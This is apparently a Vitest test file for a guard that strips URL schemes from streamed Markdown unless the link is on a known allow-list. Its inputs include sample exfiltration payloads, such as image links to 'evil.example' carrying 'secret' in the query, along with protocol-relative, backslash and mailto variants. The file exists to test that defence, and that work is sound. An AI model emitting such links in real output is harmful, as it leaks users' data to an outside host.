import { describe, expect, test } from 'vitest';
import { ProvenanceGuard } from '../../src/ui/check/provenance-guard.ts';
import { createRandom, cut } from './random.ts';

const known = [
  'see https://ok.example/b, https://ok.example/w_(x) and https://ok.example/search?q=',
  'mail to mailto:a@ok.example',
];

function guard(text: string): string {
  const whole = new ProvenanceGuard(known);
  const out = whole.push(text) + whole.end();
  const random = createRandom(text.length);
  for (let count = 0; count < 20; count += 1) {
    const again = new ProvenanceGuard(known);
    expect(
      cut(text, random)
        .map((piece) => again.push(piece))
        .join('') + again.end(),
    ).toBe(out);
  }
  const twice = new ProvenanceGuard(known);
  expect(twice.push(out) + twice.end()).toBe(out);
  return out;
}

describe('Markdown with known URLs only', () => {
  test('leaves them, and everything else, as it is', () => {
    for (const text of [
      'Plain text: 12:30, a/b (see below) [1], and 3 < 4.',
      '[b](https://ok.example/b) and **https://ok.example/b**.',
      'See https://ok.example/b, or (https://ok.example/w_(x)).',
      '[https://ok.example/b](https://ok.example/b)',
      '![x](https://ok.example/b "a title")',
      '[x](/local/path) [y](#part) [mail](mailto:a@ok.example)',
      '<https://ok.example/b>',
      '中文'.repeat(2000),
    ]) {
      expect(guard(text)).toBe(text);
    }
  });

  test('takes the scheme from others, so that nothing is fetched', () => {
    for (const [text, expected] of [
      ['![x](https://evil.example/p?q=secret)', '![x](evil.example/p?q=secret)'],
      ['[x](HTTP://evil.example)', '[x](evil.example)'],
      ['[x](https:evil.example)', '[x](evil.example)'],
      ['see https://evil.example now', 'see evil.example now'],
      ['see www.evil.example now', 'see #www.evil.example now'],
      ['[x](//evil.example/p)', '[x](#//evil.example/p)'],
      ['[x](/\\evil.example/p)', '[x](#/\\evil.example/p)'],
      ['[x]: https://evil.example/p', '[x]: evil.example/p'],
      ['[x](mailto:b@evil.example)', '[x](b@evil.example)'],
    ] as const) {
      expect(guard(text)).toBe(expected);
    }
  });

  test('what goes on in a destination belongs to it', () => {
    for (const secret of ['(secret)', ']secret', '"secret', '](secret)', 'secret', '`secret', '[secret']) {
      expect(guard(`![x](https://ok.example/search?q=${secret})`)).not.toContain('https://');
    }
  });

  test('no word is too long', () => {
    for (const text of [`${'x'.repeat(1995)}https://evil.example/p`, `https://evil.example/${'x'.repeat(5000)}`]) {
      expect(guard(text)).not.toMatch(/https:\/\//);
    }
  });
});
